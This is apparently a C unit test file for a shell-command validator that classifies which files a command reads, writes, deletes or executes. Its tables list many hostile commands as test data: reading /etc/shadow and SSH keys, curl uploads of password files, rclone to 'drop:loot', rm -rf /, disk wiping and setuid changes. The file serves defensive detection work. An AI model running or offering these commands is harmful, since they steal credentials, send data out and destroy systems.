/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "runner/base/strbuf.h"
#include "validators/shell/knowledge_effects.h"

#define COUNT(a) (sizeof(a) / sizeof(*(a)))

/* Words are separated by one blank each; "␣" stands for a blank inside a word. */
static size_t split(struct arena *arena, const char *line, struct shell_value **ret)
{
	size_t n = 0;

	*ret = NULL;
	for (const char *s = line; *s; ) {
		size_t len = strcspn(s, " "), out = 0;
		char *word = arena_strndup(arena, s, len);
		struct shell_value *v;

		for (size_t i = 0; i < len; i++) {
			if (!strncmp(word + i, "␣", 3)) {
				word[out++] = ' ';
				i += 2;
			} else {
				word[out++] = word[i];
			}
		}
		word[out] = 0;
		*ret = arena_append(arena, *ret, n, sizeof(**ret));
		v = &(*ret)[n++];
		*v = (struct shell_value){ .text = word, .len = out, .known = true, .origin = ORIGIN_LITERAL, .offset = (size_t)(s - line), .source_len = len };
		s += len + (s[len] == ' ');
	}
	return n;
}

static void render(const struct shell_effect *effects, size_t len, struct strbuf *out)
{
	static const char letters[] = { 'R', 'W', 'A', 'D', 'X', 'M', 'V', 'L' };

	for (size_t i = 0; i < len; i++) {
		char letter = letters[effects[i].access];

		assert_int_equal(strlen(effects[i].path.text), effects[i].path.len);
		strbuf_addf(out, "%s%c %s", i ? ", " : "", effects[i].recursive ? letter | 0x20 : letter, effects[i].path.text);
	}
}

struct row {
	const char *line, *effects;	/* letters as in knowledge_effects.h; small ones recursive */
};

static void check(const struct row *rows, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		autoarena struct arena arena = ARENA_INIT;
		autostrbuf struct strbuf out = STRBUF_INIT(STRBUF_NO_MAX);
		struct shell_effect *effects = NULL;
		struct shell_value *argv;
		size_t len = 0, argc = split(&arena, rows[i].line, &argv);

		knowledge_effects(&arena, argv, argc, "/w", &effects, &len);
		render(effects, len, &out);
		if (strcmp(out.buf, rows[i].effects))
			fail_msg("'%s'\n\tis   %s\n\tnot  %s", rows[i].line, out.buf, rows[i].effects);
		for (size_t k = 0; k < len; k++)
			assert_true(effects[k].path.offset < strlen(rows[i].line));
	}
}

static void reads(void **state)
{
	static const struct row rows[] = {
		{ "cat a /etc/shadow", "R /w/a, R /etc/shadow" }, { "/bin/cat -n -- -x", "R /w/-x" }, { "cat -", "" }, { "cat", "" },
		{ "tac /var/log/../log/x", "R /var/log/x" }, { "head -n 5 f", "R /w/f" }, { "head -5 f", "R /w/f" }, { "tail -fn20 f", "R /w/f" },
		{ "tail --lines=3 f", "R /w/f" }, { "tail --lin 3 f", "R /w/f" }, { "less f", "R /w/f" }, { "nl -b a f", "R /w/f" },
		{ "base64 -w 0 ~/.ssh/id_rsa", "R ~/.ssh/id_rsa" }, { "base64 -w0 -d f", "R /w/f" }, { "xxd -p /etc/shadow", "R /etc/shadow" },
		{ "xxd -r -p in out", "R /w/in, W /w/out" }, { "od -A x -t x1 f", "R /w/f" }, { "hexdump -C f", "R /w/f" },
		{ "strings -n 8 /dev/mem", "R /dev/mem" }, { "cut -d : -f1 /etc/passwd", "R /etc/passwd" }, { "cut -d: -f 1 f", "R /w/f" },
		{ "sort -o out -k 2 in", "W /w/out, R /w/in" }, { "sort -u in -o in", "W /w/in, R /w/in" }, { "uniq in out", "R /w/in, W /w/out" },
		{ "diff -r a b", "r /w/a, r /w/b" }, { "cmp a b", "R /w/a, R /w/b" }, { "rev /etc/shadow", "R /etc/shadow" }, { "wc -c f", "R /w/f" },
		{ "grep root /etc/shadow", "R /etc/shadow" }, { "grep -e a -e b f", "R /w/f" }, { "grep -f pats f", "R /w/pats, R /w/f" },
		{ "grep -rn --include=*.py pass /etc", "r /etc" }, { "grep -r pass", "r /w" }, { "egrep -A 3 x f", "R /w/f" },
		{ "zgrep x f.gz", "R /w/f.gz" }, { "grep pass", "" }, { "rg secret ~/.aws", "r ~/.aws" }, { "rg -e a -g *.c d", "r /w/d" },
		{ "awk {print␣$1} f", "R /w/f" }, { "awk -F: {print} /etc/passwd", "R /etc/passwd" }, { "awk -f p.awk f", "X /w/p.awk, R /w/f" },
		{ "awk -v x=1 p y=2 f", "R /w/f" }, { "gawk -i inplace {print} f", "W /w/f" }, { "sed -n 1p /etc/shadow", "R /etc/shadow" },
		{ "sed s/a/b/ a b", "R /w/a, R /w/b" }, { "sed -e s/a/b/ a", "R /w/a" }, { "jq -r .x f.json", "R /w/f.json" },
		{ "jq --arg a b .x f", "R /w/f" }, { "jq --slurpfile a s.json .x", "R /w/s.json" }, { "file -b f", "R /w/f" },
		{ "sha256sum -c sums", "R /w/sums" }, { "zcat a.gz", "R /w/a.gz" }, { "iconv -f latin1 -t utf8 f", "R /w/f" },
		{ "column -t -s , f", "R /w/f" }, { "shuf -n 1 f", "R /w/f" }, { "shuf -e a b", "" }, { "split -b 1M big", "R /w/big" },
		{ "getent shadow", "R /etc/shadow" }, { "getent passwd root", "R /etc/passwd" }, { "getent hosts x", "" },
		{ "unshadow /etc/passwd /etc/shadow", "R /etc/passwd, R /etc/shadow" }, { "sqlite3 db select", "R /w/db" },
		{ "crontab mycron", "R /w/mycron" }, { "crontab -l", "" }, { "ssh -i key host cat /etc/shadow", "R /w/key" },
		{ "ssh-add ~/.ssh/id_ed25519", "R ~/.ssh/id_ed25519" }, { "patch -p1 -i fix.diff", "R /w/fix.diff" },
		{ "mysql --defaults-file=/root/.my.cnf -e x", "R /root/.my.cnf" }, { "psql -f dump.sql db", "R /w/dump.sql" },
		{ "kubectl --kubeconfig /etc/kubernetes/admin.conf get secrets", "R /etc/kubernetes/admin.conf" },
		{ "kubectl apply -f d/ -n x", "R /w/d" }, { "kubectl create secret generic s --from-file=k=/etc/shadow", "R /etc/shadow" },
		{ "kubectl --kubeconfig=c -n x apply -f -", "R /w/c" }, { "helm install -f v.yaml x y", "R /w/v.yaml" },
		{ "xargs -a list rm", "R /w/list" }, { "mail -s x -a /etc/passwd a@b", "R /etc/passwd" }, { "tcpdump -r in.pcap -w out.pcap", "R /w/in.pcap, W /w/out.pcap" },
		{ "rclone copy /srv/x drop:loot", "r /srv/x" }, { "rclone --config c sync /home mega:x", "R /w/c, r /home" }, { "socat -u FILE:/etc/passwd,rdonly TCP:h:1", "R /etc/passwd" },
		{ "socat - UNIX-CONNECT:/run/docker.sock", "R /run/docker.sock" }, { "nc -U /run/docker.sock", "R /run/docker.sock" }, { "nc host 80", "" }, { "openssl passwd -1 x", "" },
		{ "http POST h/x f@/etc/passwd a=b", "R /etc/passwd" }, { "date -f /etc/shadow", "R /etc/shadow" }, { "nmap -iL /etc/shadow", "R /etc/shadow" }, { "yq .a f.yaml", "R /w/f.yaml" },
		{ "yq eval .a f.yaml", "R /w/f.yaml" }, { "gh gist create /etc/passwd", "R /etc/passwd" }, { "pip install -r req.txt", "R /w/req.txt" },
		{ "echo /etc/shadow", "" }, { "printf %s /etc/shadow", "" }, { "unknown-program /etc/shadow", "" }, { "cat https://x/y", "" },
		{ "cat /etc/sh?dow", "R /etc/sh?dow, R /etc/shadow" }, { "cat ~/.ssh/id_r*", "R ~/.ssh/id_r*, R ~/.ssh/id_rsa" }, { "cat /etc/*", "R /etc/*" }, { "cat *", "R /w/*" },
		{ "cat /etc/*release", "R /etc/*release" }, { "ftpput -u a -p b h x /etc/passwd", "R /etc/passwd" },
		{ "cat ${HOMEDIR}/.ssh/id_rsa", "R ${HOMEDIR}/.ssh/id_rsa" }, { "cat $(ls␣/a/b)", "R $(ls /a/b), R /w/*" },
	};

	(void)state;
	check(rows, COUNT(rows));
}

static void writes(void **state)
{
	static const struct row rows[] = {
		{ "tee /etc/cron.d/x", "W /etc/cron.d/x" }, { "tee -a a b", "A /w/a, A /w/b" }, { "tee --append /etc/passwd", "A /etc/passwd" },
		{ "sponge f", "W /w/f" }, { "touch -r a b", "R /w/a, W /w/b" }, { "truncate -s 0 /var/log/syslog", "W /var/log/syslog" },
		{ "truncate --size=0 a b", "W /w/a, W /w/b" }, { "fallocate -l 1T f", "W /w/f" }, { "mkdir -p -m 700 a/b", "W /w/a/b" },
		{ "mkfifo /tmp/p", "W /tmp/p" }, { "mknod /dev/x c 1 1", "W /dev/x" }, { "sed -i s/a/b/ /etc/ssh/sshd_config", "W /etc/ssh/sshd_config" },
		{ "sed -i.bak -e x a b", "W /w/a, W /w/b" }, { "sed --in-place=.o x f", "W /w/f" }, { "sed -ni x f", "W /w/f" },
		{ "perl -pi -e s/a/b/ /etc/passwd", "W /etc/passwd" }, { "perl -i.bak -pe x a", "W /w/a" }, { "perl -ne print /etc/shadow", "R /etc/shadow" },
		{ "ruby -i -pe x f", "W /w/f" }, { "perl -e unlink x", "" }, { "ed -s /etc/passwd", "R /etc/passwd, W /etc/passwd" },
		{ "vim -es +wq f", "R /w/f, W /w/f" }, { "vi -c wq f", "R /w/f, W /w/f" }, { "view f", "R /w/f, W /w/f" }, { "vim -R f", "R /w/f" },
		{ "patch /etc/passwd fix", "W /etc/passwd, R /w/fix" }, { "script -c id log", "W /w/log" }, { "dos2unix f", "W /w/f" },
		{ "dd if=/dev/zero of=/dev/sda bs=1M", "R /dev/zero, W /dev/sda" }, { "dd of=x", "W /w/x" }, { "dd if=a conv=notrunc", "R /w/a" },
		{ "mkfs.ext4 -F /dev/sda1", "W /dev/sda1" }, { "mkfs -t xfs /dev/sdb", "W /dev/sdb" }, { "mke2fs -L data /dev/vdb", "W /dev/vdb" },
		{ "wipefs -a /dev/sda", "W /dev/sda" }, { "wipefs --all --force /dev/sda", "W /dev/sda" }, { "wipefs /dev/sda", "R /dev/sda" },
		{ "fdisk /dev/sda", "W /dev/sda" }, { "fdisk -l /dev/sda", "R /dev/sda" }, { "sfdisk --delete /dev/sda", "W /dev/sda" },
		{ "sgdisk --zap-all /dev/sda", "W /dev/sda" }, { "sgdisk -Z /dev/nvme0n1", "W /dev/nvme0n1" }, { "sgdisk -p /dev/sda", "R /dev/sda" },
		{ "parted -s /dev/sda mklabel gpt", "W /dev/sda" }, { "parted /dev/sda print", "R /dev/sda" }, { "parted -a optimal /dev/sda rm 1", "W /dev/sda" },
		{ "blkdiscard -f /dev/nvme0n1", "W /dev/nvme0n1" }, { "hdparm -tT /dev/sda", "R /dev/sda" },
		{ "hdparm --user-master u --security-erase p /dev/sda", "W /dev/sda" }, { "nvme format -s 1 /dev/nvme0", "W /dev/nvme0" },
		{ "nvme list", "" }, { "cryptsetup luksFormat -q /dev/sda key", "W /dev/sda, R /w/key" }, { "cryptsetup --batch-mode erase /dev/sda", "W /dev/sda" },
		{ "cryptsetup status x", "" }, { "lvremove -f vg/lv", "D /w/vg/lv" }, { "pvremove /dev/sda", "W /dev/sda" }, { "mkswap /dev/sda2", "W /dev/sda2" },
		{ "swapoff -a", "" }, { "zpool destroy -f tank", "d /w/tank" }, { "btrfs subvolume delete /mnt/x", "d /mnt/x" },
		{ "mdadm --zero-superblock /dev/sda", "W /dev/sda" }, { "mdadm --detail /dev/md0", "R /dev/md0" }, { "tune2fs -O x /dev/sda1", "W /dev/sda1" },
		{ "mount /dev/sda1 /mnt", "R /dev/sda1, W /mnt" }, { "mount -o remount,rw /", "W /" }, { "mount --bind / /mnt", "R /, W /mnt" },
		{ "mount -t tmpfs tmpfs /etc", "W /etc" }, { "mount -a", "" }, { "mount nas:/x /mnt", "W /mnt" }, { "umount /boot", "W /boot" },
		{ "openssl req -keyout k.pem -out c.pem", "W /w/k.pem, W /w/c.pem" }, { "openssl enc -d -in a -out b -k x", "R /w/a, W /w/b" },
		{ "openssl dgst -sha256 f", "R /w/f" }, { "ssh-keygen -t rsa -N x -f /root/.ssh/id_rsa", "W /root/.ssh/id_rsa" },
		{ "ssh-keygen -y -f k", "R /w/k" }, { "gpg --output o -d f.gpg", "W /w/o, R /w/f.gpg" }, { "gpg --export-secret-keys -a", "R ~/.gnupg/private-keys-v1.d" },
		{ "htpasswd -bc /etc/nginx/.htpasswd u p", "W /etc/nginx/.htpasswd" }, { "visudo", "W /etc/sudoers" },
		{ "git config --global core.x y", "W ~/.gitconfig" }, { "git config --get user.name", "" }, { "git archive -o a.tgz HEAD", "W /w/a.tgz" },
		{ "docker save -o i.tar img", "W /w/i.tar" }, { "docker run -v /:/host img cat /etc/shadow", "" }, { "podman build -f D .", "R /w/D, r /w" },
		{ "pg_dump -f out.sql db", "W /w/out.sql" }, { "go version", "" }, { "gcc -o a a.c", "W /w/a, R /w/a.c" },
		{ "tee -- -x", "W /w/-x" }, { "TEE x", "" }, { "tee ../../etc/x", "W /etc/x" },
	};

	(void)state;
	check(rows, COUNT(rows));
}

static void deletes_and_changes(void **state)
{
	static const struct row rows[] = {
		{ "rm -rf /", "d /" }, { "rm -r -f //", "d /" }, { "rm -fR /./", "d /" }, { "rm --recursive --force /home/..", "d /" },
		{ "rm --rec --no-preserve-root /", "d /" }, { "rm / -rf", "d /" }, { "rm a b", "D /w/a, D /w/b" }, { "rm -rf *", "d /w/*" },
		{ "rm -rf -- -r", "d /w/-r" }, { "rm -- -r", "D /w/-r" }, { "rm -rf ${X}/", "d ${X}/" }, { "rm -rf ${X}/*", "d ${X}/*" },
		{ "rm -rf ${X}/..", "d ${X}/.." }, { "rm -rf ~", "d ~" }, { "rm -rf ~/..", "d ~/.." }, { "rm -rf .", "d /w" }, { "rm -rf ../..", "d /" },
		{ "rmdir a", "D /w/a" }, { "unlink a", "D /w/a" }, { "srm -r d", "d /w/d" }, { "wipe -rf d", "d /w/d" }, { "trash d", "D /w/d" },
		{ "shred f", "W /w/f" }, { "shred -n 3 -u f", "W /w/f, D /w/f" }, { "shred --remove=wipe -z f", "W /w/f, D /w/f" }, { "shred -vfz /dev/sda", "W /dev/sda" },
		{ "chmod 777 f", "M /w/f" }, { "chmod -R 777 /", "m /" }, { "chmod -x f", "M /w/f" }, { "chmod -R -w d", "m /w/d" },
		{ "chmod u+s /bin/bash", "M /bin/bash" }, { "chmod --reference=a b", "R /w/a, M /w/b" }, { "chmod 4755 -R a b", "m /w/a, m /w/b" },
		{ "chown -R me:me /etc", "m /etc" }, { "chown --from=x y f", "M /w/f" }, { "chgrp g f", "M /w/f" }, { "chattr +i f", "M /w/f" },
		{ "chattr -i /etc/passwd", "M /etc/passwd" }, { "chattr -R -i /", "m /" }, { "chattr -R +i /etc", "m /etc" },
		{ "setfacl -R -m u:x:rwx /etc", "m /etc" }, { "setcap cap_setuid+ep /bin/python3", "M /bin/python3" },
		{ "find / -delete", "r /, d /" }, { "find -delete", "r /w, d /w" }, { "find / -type f -exec rm -f {} ;", "r /, d /" },
		{ "find /etc /usr -exec rm -rf {} +", "r /etc, r /usr, d /etc, d /usr" }, { "find . -name *.o -delete", "r /w, d /w/*.o" },
		{ "find . -name node_modules -prune -exec rm -rf {} +", "r /w, d /w/node_modules" }, { "find / ! -name x -delete", "r /, d /" },
		{ "find / -name * -delete", "r /, d /" }, { "find / -exec chmod 777 {} ;", "r /, m /" }, { "find / -exec shred -u {} ;", "r /, w /, d /" },
		{ "find /var/log -type f -exec truncate -s 0 {} +", "r /var/log, w /var/log" }, { "find / -exec sudo rm {} ;", "r /, d /" },
		{ "find /home -name id_rsa -exec cat {} ;", "r /home, r /home/id_rsa" }, { "find a -exec cp {} /tmp/ ;", "r /w/a, r /w/a, W /tmp/{}" },
		{ "rm -rf /e?c", "d /e?c, d /etc" }, { "rm -rf /u*r/*", "d /u*r/*, d /usr/*" }, { "rm -rf /[e]tc", "d /[e]tc, d /etc" }, { "rm -rf /*", "d /*" }, { "rm -rf /tmp/*", "d /tmp/*" },
		{ "rm -rf /*/x", "d /*/x" }, { "rm $(find␣/usr␣/etc␣-type␣f)", "D $(find /usr /etc -type f), d /usr, d /etc" }, { "rm $(find␣.␣-name␣*.o)", "D $(find . -name *.o), d /w/*.o" },
		{ "rm -rf /$(ls␣/)", "d /$(ls /), d /*" }, { "rm -rf $(ls)", "d $(ls), d /w/*" }, { "rm -rf $(ls␣-d␣/opt/x)", "d $(ls -d /opt/x), d /opt/x" }, { "rm $(find␣/␣|␣grep␣x)", "D $(find / | grep x)" }, { "rm -rf ~/../..", "d /" },
		{ "find a -exec cat /etc/shadow ;", "r /w/a, R /etc/shadow" }, { "find a -fprint out", "r /w/a, W /w/out" }, { "find a -newer b", "r /w/a" },
		{ "find -H a -maxdepth 1", "r /w/a" }, { "find / -exec rm {} ; -exec cat {} ;", "r /, d /, r /" }, { "find a -exec", "r /w/a" },
		{ "git clean -fdx", "d /w" }, { "git clean -ndx", "" }, { "git clean -f build", "d /w/build" }, { "git -C /srv clean -xfd", "d /srv" },
		{ "git checkout -- f", "" }, { "git rm -r d", "d /w/d" }, { "git status", "" }, { "journalctl --vacuum-time=1s", "d /var/log/journal" },
		{ "journalctl -u ssh", "" }, { "journalctl --vacuum-time=2d", "" }, { "journalctl --vacuum-time=0d", "d /var/log/journal" },
		{ "journalctl --vacuum-size 500M", "" }, { "journalctl --vacuum-size=1K", "d /var/log/journal" }, { "journalctl --rotate --vacuum-files=1", "d /var/log/journal" },
		{ "cmake -E rm -rf /", "d /" }, { "cmake -E remove_directory a", "d /w/a" }, { "cmake --build x", "" }, { "rimraf dist", "d /w/dist" }, { "gio trash a", "D /w/a" }, { "systemctl enable /tmp/x.service", "L /tmp/x.service" }, { "systemctl --now enable nginx", "" },
		{ "systemctl link /tmp/x.service", "L /tmp/x.service" }, { "rclone purge remote:x", "" }, { "tmpreaper 7d /tmp", "d /tmp" },
	};

	(void)state;
	check(rows, COUNT(rows));
}

static void copies(void **state)
{
	static const struct row rows[] = {
		{ "cp a b", "R /w/a, W /w/b" }, { "cp a b/", "R /w/a, W /w/b/a" }, { "cp a b c", "R /w/a, W /w/c/a, R /w/b, W /w/c/b" },
		{ "cp /bin/bash .", "R /bin/bash, W /w/bash" }, { "cp -r /etc /tmp/x", "r /etc, w /tmp/x" }, { "cp -a /x/. /y/", "r /x, w /y" },
		{ "cp -t /etc a b", "R /w/a, W /etc/a, R /w/b, W /etc/b" }, { "cp --target-directory=/etc a", "R /w/a, W /etc/a" },
		{ "cp --parents a/b /y/", "R /w/a/b, W /y/a/b" }, { "cp -r .. /y/", "r /, w /y" }, { "cp -T a b", "R /w/a, W /w/b" }, { "cp -s a b", "L /w/a, W /w/b" },
		{ "mv a b", "V /w/a, W /w/b" }, { "mv a .", "V /w/a, W /w/a" }, { "mv /etc/* /dev/null", "V /etc/*, W /dev/null" }, { "mv -t /x a", "V /w/a, W /x/a" },
		{ "install -m 4755 a /usr/bin/x", "R /w/a, W /usr/bin/x, M /usr/bin/x" }, { "install -d /etc/x y", "W /etc/x, W /w/y" },
		{ "install a /usr/bin/", "R /w/a, W /usr/bin/a" }, { "ln -s /etc/shadow x", "L /etc/shadow, W /w/x" }, { "ln -sf /dev/null ~/.bash_history", "L /dev/null, W ~/.bash_history" },
		{ "ln -s /a/b", "L /a/b, W /w/b" }, { "ln -s ../etc /x/y", "L /etc, W /x/y" }, { "ln a b", "L /w/a, W /w/b" }, { "link a b", "L /w/a, W /w/b" },
		{ "scp f host:/x", "R /w/f" }, { "scp -r host:/etc /tmp/", "w /tmp/etc" }, { "scp -i k -P 22 u@h:f .", "R /w/k, W /w/f" },
		{ "scp ${F} ${H}:x", "R ${F}" }, { "rsync -a a/ b/", "r /w/a, w /w/b" }, { "rsync -a --delete /empty/ /", "r /empty, w /, d /" },
		{ "rsync -a --del x y", "r /w/x, w /w/y, d /w/y" }, { "rsync a h:b", "R /w/a" }, { "rsync x /etc/cron.d/", "R /w/x, W /etc/cron.d/x" }, { "cp $(find␣/␣-name␣id_*) /tmp/", "R $(find / -name id_*), r /**/id_*, W /tmp/$(find / -name id_*)" }, { "rsync -az h::m /etc", "w /etc" },
		{ "rsync --remove-source-files -r a h:", "r /w/a, d /w/a" }, { "rsync -e ssh␣-i␣k a b", "R /w/a, W /w/b" },
		{ "tar czf a.tgz /etc", "W /w/a.tgz, r /etc" }, { "tar -czf - ~/.ssh", "r ~/.ssh" }, { "tar -C /etc -cf /tmp/x.tar .", "W /tmp/x.tar, r /etc" },
		{ "tar xzf a.tgz -C /", "R /w/a.tgz, w /" }, { "tar -xf a", "R /w/a, w /w" }, { "tar xf a b/c", "R /w/a, w /w/b/c" }, { "tar --extract --file=a --directory=/usr", "R /w/a, w /usr" },
		{ "tar tf a", "R /w/a" }, { "tar -xOf a", "R /w/a" }, { "tar cf a --remove-files d", "W /w/a, r /w/d, d /w/d" }, { "tar cfz a d", "W /w/a, r /w/d" },
		{ "tar cf h:/x d", "r /w/d" }, { "zip -r o.zip d", "W /w/o.zip, r /w/d" }, { "zip -rm o.zip d", "W /w/o.zip, r /w/d, d /w/d" }, { "zip -e -P x o.zip f", "W /w/o.zip, R /w/f" },
		{ "unzip -o a.zip -d /", "R /w/a.zip, w /" }, { "unzip a.zip", "R /w/a.zip, w /w" }, { "unzip -l a.zip", "R /w/a.zip" },
		{ "7z a o.7z d", "W /w/o.7z, r /w/d" }, { "7z x a.7z -o/etc", "w /etc, R /w/a.7z" }, { "gzip f", "R /w/f, V /w/f" }, { "gzip -k f", "R /w/f" },
		{ "gzip -c f", "R /w/f" }, { "gunzip f.gz", "R /w/f.gz, V /w/f.gz" }, { "xz -9 f", "R /w/f, V /w/f" }, { "zstd --rm f -o g", "W /w/g, R /w/f, D /w/f" },
		{ "cpio -idm", "w /w" }, { "cpio -o -F a", "W /w/a" }, { "cpio -pdm /x", "w /x" }, { "ar r l.a a.o", "W /w/l.a, R /w/a.o" },
		{ "docker cp c:/etc/shadow .", "W /w/shadow" }, { "docker cp f c:/x", "R /w/f" }, { "kubectl cp ns/pod:/etc/x ./y", "W /w/y" }, { "kubectl cp /etc/x pod:/y", "R /etc/x" },
		{ "aws s3 cp /etc/shadow s3://b/", "R /etc/shadow" }, { "aws s3 --region x sync d s3://b", "r /w/d" }, { "gsutil cp a b gs://x", "R /w/a, R /w/b" },
		{ "git clone https://h/a/b.git", "w /w/b" }, { "git clone git@h:a/b d", "w /w/d" }, { "git clone --depth 1 -b x h:b.git", "w /w/b" },
	};

	(void)state;
	check(rows, COUNT(rows));
}

static void downloads_and_executes(void **state)
{
	static const struct row rows[] = {
		{ "curl -o /etc/x https://h/y", "W /etc/x" }, { "curl -sSLo f https://h/y", "W /w/f" }, { "curl -O https://h/d/y?z", "W /w/y" },
		{ "curl --output=f h", "W /w/f" }, { "curl -T /etc/shadow https://h/", "R /etc/shadow" }, { "curl --upload-file f h", "R /w/f" },
		{ "curl -d @/etc/passwd h", "R /etc/passwd" }, { "curl -d@/etc/passwd h", "R /etc/passwd" }, { "curl --data-binary @f h", "R /w/f" }, { "curl -d a=@b h", "" },
		{ "curl -d user@x h", "" }, { "curl -F x=@/etc/passwd h", "R /etc/passwd" }, { "curl -F x=</etc/passwd;type=t h", "R /etc/passwd" }, { "curl -F email=me@x h", "" },
		{ "curl --data-urlencode n@/etc/passwd h", "R /etc/passwd" }, { "curl -K cfg", "R /w/cfg" }, { "curl -b jar -c jar h", "R /w/jar, W /w/jar" }, { "curl -b a=b h", "" },
		{ "curl --cert c --key k h", "R /w/c, R /w/k" }, { "curl file:///etc/shadow", "R /etc/shadow" }, { "curl -XPOST -d @- h", "" }, { "curl -n h", "R ~/.netrc" },
		{ "curl --unix-socket /var/run/docker.sock http://x/y", "R /var/run/docker.sock" }, { "curl -H @h.txt x", "R /w/h.txt" }, { "curl --output-dir /tmp -O http://h/x", "W /tmp/x" },
		{ "wget -O /etc/x u", "W /etc/x" }, { "wget -qO- u", "" }, { "wget https://h/a.sh", "W /w/a.sh" }, { "wget -P /tmp https://h/a.sh https://h/b/", "W /tmp/a.sh, W /tmp/index.html" },
		{ "wget --post-file=/etc/shadow u/", "R /etc/shadow, W /w/index.html" }, { "wget -i list -O x", "R /w/list, W /w/x" }, { "wget -r u", "w /w" }, { "wget --body-file=f -O - u", "R /w/f" },
		{ "aria2c -o f u", "W /w/f" }, { "sh x.sh", "X /w/x.sh" }, { "bash -x /tmp/x a b", "X /tmp/x" }, { "sh -c rm x", "" }, { "bash -s -- a", "" }, { "bash --rcfile r", "X /w/r" },
		{ "python3 x.py /etc/shadow", "X /w/x.py" }, { "python3.11 -u x.py", "X /w/x.py" }, { "python -c code x", "" }, { "python -m http.server", "" }, { "perl x.pl y", "X /w/x.pl" },
		{ "node -r ./h.js x.js", "X /w/h.js, X /w/x.js" }, { "php -f x.php", "X /w/x.php" }, { "php -r code", "" }, { ". ./env", "X /w/env" }, { "source /tmp/x y", "X /tmp/x" },
		{ "insmod /tmp/r.ko", "X /tmp/r.ko" }, { "modprobe -r x", "" }, { "enable -f ./x.so x", "X /w/x.so" }, { "java -jar a.jar b", "X /w/a.jar" }, { "make -f M -C d x", "X /w/d/M" },
		{ "dpkg -i x.deb", "X /w/x.deb" }, { "dpkg -l x", "" }, { "rpm -ivh x.rpm", "X /w/x.rpm" }, { "ansible-playbook -i inv p.yml", "R /w/inv, X /w/p.yml" },
		{ "gdb -x cmds prog", "X /w/cmds" }, { "/lib64/ld-linux-x86-64.so.2 /tmp/x", "X /tmp/x" }, { "at -f job now", "R /w/job" },
	};

	(void)state;
	check(rows, COUNT(rows));
}

static void tables_are_in_order(void **state)
{
	const struct program *last = NULL;
	const char *last_alias = "", *row, *name;

	(void)state;
	for (size_t i = 0; effects_program_at(i); i++) {
		const struct program *p = effects_program_at(i);

		if (last && strcmp(last->name, p->name) >= 0)
			fail_msg("'%s' stands behind '%s'", p->name, last->name);
		assert_ptr_equal(effects_find_exact(p->name, strlen(p->name)), p);
		assert_null(effects_alias(p->name, strlen(p->name)));
		last = p;
	}
	for (size_t i = 0; (name = effects_alias_at(i, &row)); i++) {
		if (strcmp(last_alias, name) >= 0)
			fail_msg("alias '%s' stands behind '%s'", name, last_alias);
		if (!effects_find_exact(name, strlen(name)))
			fail_msg("alias '%s' of '%s' leads nowhere", name, row);
		last_alias = name;
	}
	assert_string_equal(effects_find_program("python3.11", 10)->name, "python");
	assert_string_equal(effects_find_program("mkfs.ext4", 9)->name, "mkfs");
	assert_null(effects_find_program("rm.sh", 5));
	assert_null(effects_find_program("", 0));
	assert_null(effects_find_program("r", 1));
}

/* Unknown values stay unknown, places stay where they were. */
static void keeps_places(void **state)
{
	autoarena struct arena arena = ARENA_INIT;
	struct shell_effect *effects = NULL;
	size_t len = 0;
	struct shell_value argv[] = {
		{ .text = "cp", .len = 2, .known = true, .offset = 7, .source_len = 2 },
		{ .text = "-t${D}", .len = 6, .origin = ORIGIN_INPUT, .offset = 10, .source_len = 4 },
		{ .text = "a/b", .len = 3, .known = true, .origin = ORIGIN_SECRET, .offset = 20, .source_len = 9 },
	};

	(void)state;
	knowledge_effects(&arena, argv, COUNT(argv), NULL, &effects, &len);
	assert_int_equal(len, 2);
	assert_string_equal(effects[0].path.text, "a/b");
	assert_true(effects[0].path.known);
	assert_int_equal(effects[0].path.offset, 20);
	assert_int_equal(effects[0].path.source_len, 9);
	assert_string_equal(effects[1].path.text, "${D}/b");
	assert_false(effects[1].path.known);
	assert_int_equal(effects[1].path.offset, 10);
	assert_int_equal(effects[1].path.origin, ORIGIN_INPUT | ORIGIN_SECRET);
	knowledge_effects(&arena, argv, 0, NULL, &effects, &len);
	knowledge_effects(&arena, argv, 1, NULL, &effects, &len);
	assert_int_equal(len, 2);
}

/* A long folder and many words would make megabytes squared. */
static void is_linear(void **state)
{
	static const char *const programs[] = { "rm", "cp", "mv", "tar", "find", "curl", "wget", "rsync", "chmod", "git", "awk" };
	const size_t words = 200000, long_len = 400000;
	char *folder = malloc(long_len + 1);
	struct shell_value *argv = calloc(words, sizeof(*argv));

	(void)state;
	assert_true(folder && argv);
	memset(folder, 'x', long_len);
	folder[0] = '/';
	folder[long_len] = 0;
	for (size_t p = 0; p < COUNT(programs); p++) {
		autoarena struct arena arena = ARENA_INIT;
		struct shell_effect *effects = NULL;
		size_t len = 0;

		for (size_t i = 0; i < words; i++)
			argv[i] = (struct shell_value){ .text = i % 4 == 2 ? "-exec" : i % 4 == 3 ? "rm" : "{}", .len = i % 4 == 2 ? 5 : 2, .known = true };
		argv[0] = (struct shell_value){ .text = programs[p], .len = strlen(programs[p]), .known = true };
		argv[1] = argv[words - 1] = (struct shell_value){ .text = folder, .len = long_len, .known = true };
		knowledge_effects(&arena, argv, words, folder, &effects, &len);
		assert_true(arena.bytes < (size_t)400 << 20);
	}
	free(argv);
	free(folder);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(reads), cmocka_unit_test(writes), cmocka_unit_test(deletes_and_changes), cmocka_unit_test(copies),
		cmocka_unit_test(downloads_and_executes), cmocka_unit_test(tables_are_in_order), cmocka_unit_test(keeps_places),
		cmocka_unit_test(is_linear),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
